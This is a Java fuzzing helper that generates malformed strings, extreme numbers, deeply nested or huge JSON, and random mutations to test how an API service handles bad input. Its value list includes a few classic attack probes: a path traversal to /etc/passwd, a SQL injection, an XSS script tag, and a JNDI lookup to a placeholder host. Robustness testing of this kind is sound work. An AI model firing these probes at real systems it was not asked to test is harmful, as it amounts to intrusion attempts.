package org.cpor.fuzzing;

import com.fasterxml.jackson.databind.JsonNode;
import com.fasterxml.jackson.databind.node.ArrayNode;
import com.fasterxml.jackson.databind.node.DecimalNode;
import com.fasterxml.jackson.databind.node.NullNode;
import com.fasterxml.jackson.databind.node.ObjectNode;
import com.fasterxml.jackson.databind.node.TextNode;
import java.math.BigDecimal;
import java.util.ArrayList;
import java.util.List;
import java.util.Random;
import java.util.function.Consumer;
import org.cpor.stack.client.ApiClient;

/** Invalid values of all kinds that have made a service fail, and changes to valid JSON. */
final class NastyValues {

  private static final List<String> TEXTS =
      List.of(
          "",
          " ",
          "\u0000",
          "a\u0000b",
          "\r\n",
          "\ud800",
          "\u202efdp.exe",
          "\ufeff",
          "😀👩‍👩‍👧",
          "A\u030a\u0301",
          "null",
          "true",
          "-1",
          "1e400",
          "NaN",
          "9223372036854775808",
          "00000000-0000-0000-0000-000000000000",
          "{0A1B2C3D-0000-0000-0000-000000000000}",
          "0a1b2c3d00000000000000000000000",
          "../../etc/passwd",
          "%00",
          "%",
          "' or 1=1 --",
          "=1+1",
          "<script>alert(1)</script>",
          "${jndi:ldap://x.example/a}",
          "9999-12-31T23:59:59-00:01",
          "-999999999-01-01T00:00:00+18:00",
          "+1000000000-12-31T23:59:60Z",
          "2026-02-30",
          "0000-00-00",
          "xn--",
          "xn--a.example",
          "straße.example",
          "a..b",
          "-a.example",
          "@",
          "a@b",
          "\"a b\"@c.example",
          "en-GB-oxendict-x-very-long-private-use",
          "*",
          "\"stale\"",
          "W/\"1\"");

  private static final int[] LENGTHS = {65, 256, 1_001, 4_001, 10_001, 70_000, 300_000};
  private static final int[] COUNTS = {101, 1_001, 20_000};
  private static final int[] DEPTHS = {20, 300, 480};

  private final Random random;

  NastyValues(Random random) {
    this.random = random;
  }

  /** A text that is invalid in nearly every field. */
  String text() {
    return switch (random.nextInt(5)) {
      case 0 -> "x".repeat(LENGTHS[random.nextInt(LENGTHS.length)]);
      case 1 -> "a".repeat(LENGTHS[random.nextInt(3)]) + ".example";
      default -> TEXTS.get(random.nextInt(TEXTS.size()));
    };
  }

  /** An invalid text that is short enough for a URL or a header. */
  String shortText() {
    String text = text();
    return text.length() <= 1_100 ? text : text.substring(0, 1_100);
  }

  /** JSON of any type. */
  JsonNode json() {
    return switch (random.nextInt(9)) {
      case 0 -> NullNode.getInstance();
      case 1 -> ApiClient.JSON.getNodeFactory().booleanNode(random.nextBoolean());
      case 2 -> DecimalNode.valueOf(new BigDecimal("1e" + random.nextInt(400)));
      case 3 -> ApiClient.JSON.getNodeFactory().numberNode(random.nextLong());
      case 4 -> many();
      case 5 -> deep();
      case 6 -> ApiClient.JSON.createObjectNode().put("a", 1);
      default -> TextNode.valueOf(text());
    };
  }

  private ArrayNode many() {
    ArrayNode array = ApiClient.JSON.createArrayNode();
    int kind = random.nextInt(3);
    for (int i = COUNTS[random.nextInt(COUNTS.length)]; i > 0; i--) {
      switch (kind) {
        case 0 -> array.addNull();
        case 1 -> array.add("");
        default -> array.addObject();
      }
    }
    return array;
  }

  private JsonNode deep() {
    JsonNode node = ApiClient.JSON.createArrayNode();
    for (int i = DEPTHS[random.nextInt(DEPTHS.length)]; i > 0; i--) {
      node = ApiClient.JSON.createArrayNode().add(node);
    }
    return node;
  }

  /**
   * Changes {@code root} at one place and returns it. Sometimes returns an unrelated value instead.
   */
  JsonNode change(JsonNode root) {
    List<Consumer<JsonNode>> places = new ArrayList<>();
    collect(root, places);
    if (places.isEmpty() || random.nextInt(40) == 0) {
      return json();
    }
    places.get(random.nextInt(places.size())).accept(json());
    return root;
  }

  private void collect(JsonNode node, List<Consumer<JsonNode>> places) {
    if (node instanceof ObjectNode object) {
      object
          .properties()
          .forEach(field -> {
            String name = field.getKey();
            places.add(value -> object.set(name, value));
            places.add(value -> object.set(name, value));
            places.add(value -> object.remove(name));
            collect(field.getValue(), places);
          });
      places.add(value -> object.set("unknown", value));
      places.add(value -> object.set(shortText(), value));
    } else if (node instanceof ArrayNode array) {
      for (int i = 0; i < array.size(); i++) {
        int index = i;
        places.add(value -> array.set(index, value));
        collect(array.get(i), places);
      }
      places.add(array::add);
    }
  }
}
